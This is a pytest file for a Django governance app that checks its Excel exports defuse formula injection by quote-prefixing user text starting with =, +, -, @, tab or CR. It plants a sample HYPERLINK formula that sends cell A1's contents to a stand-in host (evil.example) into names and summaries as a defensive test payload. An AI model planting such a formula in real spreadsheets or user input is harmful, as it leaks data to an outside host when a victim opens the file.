"""Excel formula injection: text from users that starts with = + - @ tab or CR is written as
text (quote-prefixed) in every export, never as a formula."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from core.exports import safe_cell, workbook_bytes
from governance.models import Grid, Region
from stations.incidents.imports import incident_import_template
from stations.models import Station

from ..disputes.helpers import report

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def assert_no_formula(content: bytes) -> list:
    """Every cell of the workbook; none is a formula and no text starts with a formula sign."""
    wb = load_workbook(io.BytesIO(content))
    values = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
                values.append(cell.value)
    return values


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_safe_cell_quotes_formula_signs(text):
    assert safe_cell(text) == "'" + text
    wb = Workbook()
    wb.active.append([text, 5, -3, "正常文字"])
    sheet = load_workbook(io.BytesIO(workbook_bytes(wb))).active
    first, *rest = [c.value for c in sheet[1]]
    assert first == "'" + text.replace("\r", "\n")  # XML stores a CR as a line feed
    assert rest == [5, -3, "正常文字"] and sheet["A1"].data_type == "s"


def test_safe_cell_leaves_other_values_alone():
    assert safe_cell("正常") == "正常"
    assert safe_cell(-5) == -5
    assert safe_cell(None) is None


@pytest.fixture
def evil_world(world):
    Region.objects.filter(pk=world.village_1.pk).update(name=EVIL)
    Grid.objects.filter(pk=world.grid_1a.pk).update(name="@" + EVIL)
    Station.objects.filter(pk=world.station_a.pk).update(name="+" + EVIL)
    parties = [{"name": "-" + EVIL, "role": "applicant", "ethnicity": "yi"}]
    report(world, grid=world.grid_1a, summary=EVIL, parties=parties)
    return world


def test_case_ledger_writes_no_formula(evil_world, client_for):
    response = client_for("station_a").get(reverse("disputes:case-export"))
    assert response.status_code == 200
    values = assert_no_formula(response.content)
    assert "'" + EVIL in values  # the summary and the village, as text
    assert "'@" + EVIL in values


def test_dashboard_export_writes_no_formula(evil_world, client_for):
    county = evil_world.county
    response = client_for("county").get(f"/dashboard/county/{county.pk}/export.xlsx")
    assert response.status_code == 200
    values = assert_no_formula(response.content)
    assert "'+" + EVIL in values  # the station's name in the comparison sheet


def test_incident_import_template_writes_no_formula(evil_world):
    village = Region.objects.get(pk=evil_world.village_1.pk)
    values = assert_no_formula(incident_import_template(villages=[village]))
    assert "'" + EVIL in values
